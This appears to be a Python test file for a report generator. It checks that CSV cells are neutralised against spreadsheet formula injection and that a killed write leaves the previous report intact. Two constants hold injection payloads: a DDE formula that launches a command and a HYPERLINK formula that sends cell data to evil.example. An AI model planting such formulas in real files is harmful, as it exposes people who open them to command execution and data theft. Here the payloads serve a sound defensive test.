"""Report files are safe to open and never left broken: formula-safe CSV
cells (issue 16, "Formula cells elsewhere"), and a kill while a report is
being written leaves the previous good file (issue 16, "0-byte file")."""

from __future__ import annotations

import csv
import subprocess
import sys
import textwrap
from datetime import UTC, datetime
from pathlib import Path

import pytest
import time_machine

from nlp.formula_guard import needs_guard, unguard
from reports import ReportSettings, write_report
from storage import Store
from tests.paths import ROOT
from tests.pg import sqlite_only
from tests.reports.builders import add
from tests.reports.conftest import CONTEXT, LABELS, NOW, week_posts

EVIL_TERM = "=1+cmd|' /C calc'!A0"
EVIL_ERROR = '=HYPERLINK("https://evil.example/?x="&A1,"details")'


def test_report_csv_cells_cannot_run_as_formulas(store: Store, tmp_path: Path) -> None:
    add(store, week_posts("2026-11-17", "waste_recycling", 12, ["negative"],
                          terms=(EVIL_TERM,)))
    with time_machine.travel(datetime(2026, 11, 18, 9, tzinfo=UTC), tick=False):
        run = store.runs.start("evil-feed")
        store.runs.finish(run, "failed", EVIL_ERROR)
    paths = write_report(store, "2026-W47", settings=ReportSettings(), topic_labels=LABELS,
                         formats=["csv"], out_dir=tmp_path, context=CONTEXT, now=NOW)
    cells = []
    for path in paths:
        with path.open(newline="", encoding="utf-8") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    errors = [c for c in cells if "HYPERLINK" in c]
    terms = [c for c in cells if "calc" in c]
    assert errors == ["'" + EVIL_ERROR] and [unguard(c) for c in errors] == [EVIL_ERROR]
    assert terms and all(c.startswith("'=1+cmd") for c in terms)
    assert not [c for c in cells if needs_guard(c) and not c.startswith("'")]


# A kill while each format is written. The child process arms itself when a
# file of the week's report is opened for writing, and SIGKILLs itself at the
# next C-level write(): the moment a report file written in place is empty.
CHILD = textwrap.dedent("""
    import os, signal, sys
    from datetime import datetime, UTC
    from pathlib import Path
    from reports import ReportContext, ReportSettings, write_report
    from storage import Store

    out, fmt, target = Path(sys.argv[2]), sys.argv[3], sys.argv[4]
    armed = False

    def audit(event, args):
        global armed
        if event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
            name = os.fsdecode(args[0])
            mode, flags = args[1], args[2] or 0
            writing = (mode is not None and any(c in mode for c in "wax+")) or \\
                bool(flags & (os.O_WRONLY | os.O_RDWR))
            if writing and target in os.path.basename(name):
                armed = True

    def profile(frame, event, arg):
        if armed and event == "c_call" and getattr(arg, "__name__", "") == "write":
            os.kill(os.getpid(), signal.SIGKILL)

    sys.addaudithook(audit)
    store = Store.open(sys.argv[1])
    context = ReportContext(config_hash="cfg123", pipeline_version="0.1.0",
                            organisation="Example Council")
    sys.setprofile(profile)
    write_report(store, "2026-W47", settings=ReportSettings(), formats=[fmt], out_dir=out,
                 topic_labels={}, context=context, now=datetime(2026, 11, 25, 9, tzinfo=UTC))
    sys.setprofile(None)
    print("finished without being killed")
""")


@pytest.mark.parametrize(("fmt", "target"), [
    ("html", "report-2026-W47.html"), ("md", "report-2026-W47.md"),
    ("json", "report-2026-W47.json"), ("csv", "report-2026-W47-topics.csv"),
    ("pdf", "report-2026-W47.pdf"),
])
@sqlite_only("what is killed is the report file's write, the same whichever the backend "
             "(five more child processes of 6 to 23 s each)")
def test_a_kill_while_writing_leaves_the_previous_report(store: Store, tmp_path: Path,
                                                         fmt: str, target: str) -> None:
    add(store, week_posts("2026-11-17", "waste_recycling", 12, ["negative"]))
    out = tmp_path / "out"
    write_report(store, "2026-W47", settings=ReportSettings(), topic_labels=LABELS,
                 formats=[fmt], out_dir=out, context=CONTEXT, now=NOW)
    before = (out / target).read_bytes()
    assert len(before) > 100

    child = subprocess.run([sys.executable, "-c", CHILD, str(store.path), str(out), fmt, target],
                           cwd=ROOT, capture_output=True, text=True, timeout=300)

    assert child.returncode == -9, (child.returncode, child.stdout, child.stderr)
    assert (out / target).read_bytes() == before
